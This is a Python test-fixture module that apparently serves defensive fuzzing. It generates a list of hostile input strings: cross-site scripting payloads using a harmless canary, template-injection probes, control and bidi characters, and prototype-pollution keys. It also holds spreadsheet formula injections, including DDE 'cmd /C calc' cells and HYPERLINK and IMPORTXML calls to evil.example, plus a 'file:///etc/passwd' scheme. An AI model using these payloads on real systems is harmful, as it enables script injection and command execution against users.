"""Hostile texts: what somebody could write into a name, a label, a source or an address."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "window.canary=1"
_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "embed", "math",
         "style", "link", "button", "form", "select", "textarea", "template", "a")  # fmt: skip
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
             "onbegin", "onstart", "onbeforeprint", "onhashchange", "onmessage", "onresize", "onscroll")  # fmt: skip
_SCHEMES = ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:",
            "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,", "data:text/html;base64,",
            "data:image/svg+xml,", "blob:", "file:///etc/passwd#", "view-source:", "about:blank#", "//evil.example/",
            "\\\\evil.example\\", "ftp://evil.example/", "mailto:x@evil.example?")  # fmt: skip
_BREAKS = ("</script>", "</SCRIPT >", "</script\t>", "</style>", "</title>", "</textarea>", "</noscript>", "-->", "--!>",  # noqa: E501
           "]]>", "</template>", "</iframe>", "</svg>", "</math>", "</option></datalist>", "</table>", "</body></html>",
           "<!--", "<![CDATA[", "<?xml ?>")  # fmt: skip
_TEMPLATES = ("{{ 7*7 }}", "{{ ''.__class__.__mro__ }}", "{% for x in (1,2) %}{% endfor %}", "{# #}", "${7*7}", "#{7*7}",  # noqa: E501
              "<%= 7*7 %>", "{{constructor.constructor('window.canary=1')()}}", "[[7*7]]", "%(name)s", "{name}", "{0}",
              "{0.__class__}", "{shown}", "%s%n%x", "$(window.canary=1)", "`window.canary=1`", "@{7*7}", "{{=7*7}}",
              "{% raw %}")  # fmt: skip
_QUOTES = ("\"", "'", "`", "\\", "\\\"", "\\'", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "&quot;", "&#39;", "&lt;script&gt;",  # noqa: E501
           "&#60;script&#62;", "%3Cscript%3E", "＜script＞", "\u2039script\u203a", "+ADw-script+AD4-", "\x00<script>",
           "<\x00script>", "<scr\x00ipt>", "<scr<script>ipt>")  # fmt: skip
_MARKS = ("\u2028", "\u2029", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\ufeff",
          "\u200b", "\u061c", "\x1b[31m", "\x07", "\x08", "\x7f", "\x85", "\ud800", "\udfff")  # fmt: skip
_CELLS = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "\t=1", "\r=1",
          "=IMPORTXML(\"https://evil.example\")", "-2+3+cmd|' /C calc'!D2")  # fmt: skip
_OBJECTS = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "NaN", "null", "undefined", "true",
            "[object Object]", "0", "-0", "1e999", "", " ", "\t\n", "🙂" * 40, "x" * 5000, "Z̸̢͓" * 30,
            "😀\u200d😀")  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "<iframe srcdoc='<script>parent.canary=1</script>'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href='javascript:{_RUN}//'>",
    f"<form action='javascript:{_RUN}'><button autofocus>",
    f"<a href='javascript:{_RUN}' autofocus>x</a>",
    *(f"<{tag} src=x {_HANDLERS[place % len(_HANDLERS)]}={_RUN} autofocus>" for place, tag in enumerate(_TAGS)),
    *(f"<img src=x {handler}='{_RUN}'>" for handler in _HANDLERS),
    *(f'" {handler}="{_RUN}" x="' for handler in _HANDLERS),
    *(f"' {handler}='{_RUN}' x='" for handler in _HANDLERS),
    *(f"{scheme}{_RUN}" for scheme in _SCHEMES),
    *(f"{end}<script>{_RUN}</script>" for end in _BREAKS),
    *_TEMPLATES,
    *(f"{quote}<img src=x onerror={_RUN}>" for quote in _QUOTES),
    *(f"a{mark}b<script>{_RUN}</script>" for mark in _MARKS),
    *_CELLS,
    *_OBJECTS,
)
